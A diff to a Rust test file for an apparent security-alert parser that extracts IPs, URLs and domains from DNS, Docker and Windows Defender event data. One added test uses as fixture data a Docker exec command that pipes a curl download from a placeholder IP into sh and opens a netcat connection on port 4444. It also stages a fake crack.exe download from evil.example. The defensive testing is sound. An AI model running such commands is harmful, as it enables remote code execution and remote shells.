@@ -29,7 +29,10 @@ fn the_name_that_a_client_of_tls_asks_for_is_an_indicator_unless_the_server_is_o
 #[test]
 fn fields_below_a_list_are_called_as_the_list_is() {
     for (value, kind) in [
-        (json!({"dns": {"answers": [{"type": "A", "data": "203.0.113.66"}]}}), "ip-dst"),
+        (
+            json!({"dns": {"answers": [{"type": "A", "data": "203.0.113.66"}]}}),
+            "ip-dst",
+        ),
         (json!({"data": {"source": [{"ip": "203.0.113.66"}]}}), "ip-src"),
         (json!({"data": {"destination": [{"ip": "203.0.113.66"}]}}), "ip-dst"),
         (json!({"data": {"attackers": [{"ip": "203.0.113.66"}]}}), "ip-src"),
@@ -40,4 +43,31 @@ fn fields_below_a_list_are_called_as_the_list_is() {
     // What is asked for and answered is no address.
     let alias = json!({"dns": {"answers": [{"type": "CNAME", "data": "cdn.evil.example"}]}});
     expect(&alias, &[]);
+}
+
+#[test]
+fn what_a_container_runs_and_where_a_found_file_came_from_is_looked_through() {
+    let docker = |action: &str| json!({"data": {"docker": {"Action": action, "from": "registry.evil.example/nginx:1.2.3.4", "Actor": {"Attributes": {"name": "web"}}}}});
+    expect(
+        &docker("exec_start: sh -c curl http://203.0.113.66/x|sh; nc 203.0.113.67 4444"),
+        &[
+            ("ip-dst", "203.0.113.66"),
+            ("url", "http://203.0.113.66/x"),
+            ("ip-dst", "203.0.113.67"),
+        ],
+    );
+    expect(&docker("pull"), &[]);
+    let found = |list: &str| json!({"data": {"win": {"system": {"eventID": "1116"}, "eventdata": {"path": list}}}});
+    let fetched = found(
+        "file:_C:\\\\x\\\\crack.exe; webfile:_C:\\\\x\\\\crack.exe|http://evil.example/crack.exe|pid:1,ProcessStart:1",
+    );
+    expect(
+        &fetched,
+        &[("domain", "evil.example"), ("url", "http://evil.example/crack.exe")],
+    );
+    let alert = alert(&fetched);
+    let actors = alert.actors();
+    assert_eq!(actors.files, ["C:\\x\\crack.exe"]);
+    assert_eq!(actors.urls, ["http://evil.example/crack.exe"]);
+    expect(&found("file:_C:\\\\x\\\\crack.exe"), &[]);
 }
